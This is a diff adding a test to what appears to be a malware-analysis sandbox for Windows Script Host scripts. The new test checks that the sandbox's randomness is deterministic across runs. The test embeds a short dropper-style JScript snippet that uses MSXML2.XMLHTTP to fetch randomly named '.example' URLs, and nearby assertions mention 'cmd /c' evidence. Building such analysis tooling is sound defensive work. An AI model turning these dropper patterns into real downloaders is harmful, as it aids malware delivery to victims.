@@ -170,3 +170,14 @@ test('the clock moves with WScript.Sleep, in timer ticks with jitter, the same w
   assert.match(evidence(first), /cmd \/c slept \d+ \d+/);
   assert.equal(evidence(first), evidence(second));
 });
+
+test('a dropper that picks its URLs at random picks the same ones on every run', async () => {
+  const source = `
+    var x = new ActiveXObject("MSXML2.XMLHTTP");
+    for (var i = 0; i < 3; i++) { x.open("GET", "http://r" + Math.floor(Math.random() * 1e6) + ".example/", false); x.send(); }
+  `;
+  const a = urlsOf(await run('random.js', source));
+  const b = urlsOf(await run('random.js', source));
+  assert.equal(a.length, 3);
+  assert.deepEqual(a, b);
+});
